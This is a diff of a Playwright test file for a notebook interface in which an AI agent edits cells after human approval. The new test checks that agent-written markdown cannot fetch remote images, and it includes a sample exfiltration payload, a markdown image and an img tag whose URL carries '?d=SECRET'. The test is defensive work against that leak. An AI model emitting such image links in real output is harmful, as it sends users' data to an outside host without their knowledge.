@@ -5,9 +5,10 @@ from collections.abc import Callable
 
 import nbformat
 import pytest
-from lab_driver import NotebookPage
 from playwright.sync_api import expect
-from scripts import outputs, scripted
+
+from tests.support.kernels.cells import outputs, scripted
+from tests.support.lab import NotebookPage
 
 Open = Callable[..., NotebookPage]
 
@@ -120,3 +121,31 @@ def test_what_the_person_types_meanwhile_is_not_overwritten(notebook: Open) -> N
     assert "protected" in locked
     assert "the cell that you run in" in own
     assert page.sources()[1:4] == [AGENT, "x = 1  # mine", "y = 1"]
+
+
+def test_a_markdown_cell_of_an_agents_loads_nothing(notebook: Open) -> None:
+    own = "![mine](http://127.0.0.1:9/mine.png)\n\nDone: 1."
+    remote = "Seen: ![x](http://127.0.0.1:9/?d=SECRET) <img src='http://127.0.0.1:9/'>"
+    edited = f"{own[:-2]}2.\n\n{remote}"
+    calls = (
+        _call("insert_cell", source=remote, kind="markdown"),
+        _call("read"),
+        _call("edit_cell", cell_id="words", source=edited, version=_version(own)),
+    )
+    words = nbformat.v4.new_markdown_cell(own, id="words")
+    page = notebook([scripted(*calls, DONE), _cell(AGENT, "own"), words, ""])
+    asked: list[str] = []
+    page.page.on("request", lambda request: asked.append(request.url))
+    page.run(0)
+    page.start(1)
+    page.wait_for_question()
+    page.answer("Approve")
+    expect(page.questions.filter(has_text="-Done: 1.")).to_be_visible()
+    page.answer("Approve")
+    page.wait_for_end(1)
+    _, _, inserted, changed, *_ = page.sources()
+    harmless = "Seen: &#33;[x](http://127.0.0.1:9/?d=SECRET) &lt;img src="
+    assert inserted.startswith(harmless)
+    # What the person wrote stays as it is.
+    assert changed.startswith(f"{own.split(chr(10))[0]}\n\nDone: 2.\n\n{harmless}")
+    assert not [url for url in asked if "SECRET" in url]
